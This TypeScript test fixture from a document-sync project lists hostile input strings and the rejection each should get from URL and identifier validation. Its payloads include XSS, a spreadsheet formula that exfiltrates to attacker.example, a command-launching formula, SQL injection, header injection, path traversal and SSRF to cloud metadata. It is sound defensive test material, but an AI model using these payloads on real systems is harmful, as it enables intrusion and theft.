/**
 * Hostile texts, and the designed answer to each in each place where the org could hold it. Doclift treats every text of the
 * org as written by somebody who means harm; `docs/hostile-input.md` says the same in sentences, and a test keeps both equal.
 */

/** What becomes of a record whose URL field holds the text. */
export type UrlAnswer = 'in-scope' | 'no-url' | 'not-a-url' | 'foreign-host'
/** Whether the vendor is asked for a document with the text as its identifier. */
export type IdentifierAnswer = 'asked' | 'not-sent'

export interface HostileText {
  /** What it is, in the words of the docs. */
  kind: string
  text: string
  url: UrlAnswer
  identifier: IdentifierAnswer
}

const KILOBYTES_100 = 100 * 1024

/**
 * The corpus for one vendor.
 * @param vendorHost a host of the vendor, as the settings have it
 * @param attackerPort of this machine, where nobody may be asked for anything
 */
export function hostileTexts(vendorHost: string, attackerPort = 1): HostileText[] {
  const [firstLetter = '', ...otherLetters] = vendorHost
  const rest = otherLetters.join('')
  const atVendor = (path: string) => `https://${vendorHost}/${path}`
  return [
    text('HTML', '<b>bold</b><img src=x onerror=alert(1)>.pdf', 'not-a-url'),
    text('a script that ends an attribute', `"><script>alert('x')</script>`, 'not-a-url'),
    text('a script address', 'javascript:alert(document.cookie)', 'not-a-url'),
    text('a script address that looks like a host', 'javascript://comment%0aalert(1)', 'not-a-url'),
    text('a data address', 'data:text/html,<script>alert(1)</script>', 'not-a-url'),
    text('a file address', 'file:///etc/passwd', 'not-a-url'),
    text('a formula', '=HYPERLINK("https://attacker.example/?"&A1,"Open")', 'foreign-host'),
    text('a formula that starts a program', "@SUM(1+1)*cmd|' /C calc'!A0", 'not-a-url'),
    text('a formula behind a tab', '\t=1+1', 'not-a-url'),
    text('SQL', `'; drop table file_records; --`, 'not-a-url'),
    text('SOQL', `x' OR Name LIKE '%`, 'not-a-url'),
    text('a template', '#{7*7}{{constructor.constructor("x")()}}', 'not-a-url'),
    text('a line break', 'two\r\nlines.pdf', 'not-a-url'),
    text('a header', 'name.pdf\r\nX-Injected: yes\r\n\r\n<html>', 'not-a-url'),
    text('a line break in the URL of a document', atVendor('northwind/a\r\nb'), 'not-a-url'),
    text('a line break in the name of the host', `https://${firstLetter}\n${rest}/a`, 'not-a-url'),
    text('NUL', 'a\0b.pdf', 'not-a-url'),
    text('NUL in the URL of a document', atVendor('northwind/a\0b'), 'not-a-url'),
    text('an escape sequence for a terminal', '\u001b[2J\u001b]0;owned\u0007.pdf', 'not-a-url'),
    text('a change of the reading direction', 'invoice\u202Efdp.exe', 'not-a-url'),
    text('invisible characters', 'in\u200Bvoice\u2060.pdf', 'not-a-url'),
    text('half a character, first half', 'a\ud83d.pdf', 'not-a-url'),
    text('half a character, second half', '\ude00b.pdf', 'not-a-url'),
    text('half a character in the URL of a document', atVendor('northwind/\ud83d'), 'not-a-url'),
    text('a path out of its folder', '../../../../etc/passwd', 'foreign-host'),
    text('an encoded path out of its folder', '..%2f..%2f%2e%2e%2fetc%2fpasswd', 'not-a-url'),
    text('a path of another system', '..\\..\\windows\\system32\\config', 'not-a-url'),
    text('an absolute path', '/etc/passwd', 'foreign-host'),
    text('a reserved name', 'CON', 'not-a-url', 'asked'),
    text('dots only', '...', 'not-a-url'),
    text('spaces only', ' \u00a0\u2003 ', 'no-url'),
    text('100 KB', 'x'.repeat(KILOBYTES_100), 'not-a-url'),
    text('100 KB of marks on one letter', `a${'\u0301'.repeat(KILOBYTES_100 / 2)}`, 'not-a-url'),
    text('100 KB in the URL of a document', atVendor('y'.repeat(KILOBYTES_100)), 'in-scope'),
    text('the host of the vendor in front of another', `https://${vendorHost}.attacker.example/a`, 'foreign-host'),
    text('the host of the vendor behind another', `https://attacker.example/${vendorHost}/a`, 'foreign-host'),
    text('the host of the vendor as a user name', `https://${vendorHost}@attacker.example/a`, 'not-a-url'),
    text('the host of the vendor before a backslash', `https://${vendorHost}\\@attacker.example/a`, 'not-a-url'),
    text('the host of the vendor in a fragment', `https://attacker.example/a#${vendorHost}`, 'foreign-host'),
    text('a letter of another script in the host', `https://\u0440${rest}/a`, 'foreign-host'),
    text('another port of the vendor', `https://${vendorHost.replace(/:.*/, '')}:8443/a`, 'foreign-host'),
    text('an address of this machine', `http://127.0.0.1:${attackerPort}/a`, 'foreign-host'),
    text('an address of this machine as one number', `http://2130706433:${attackerPort}/a`, 'foreign-host'),
    text('an address of this machine in version 6', `http://[::ffff:127.0.0.1]:${attackerPort}/a`, 'foreign-host'),
    text('the address of the metadata of a cloud', 'http://169.254.169.254/latest/meta-data/', 'foreign-host'),
  ]
}

function text(kind: string, given: string, url: UrlAnswer, identifier: IdentifierAnswer = 'not-sent'): HostileText {
  return { kind, text: given, url, identifier }
}
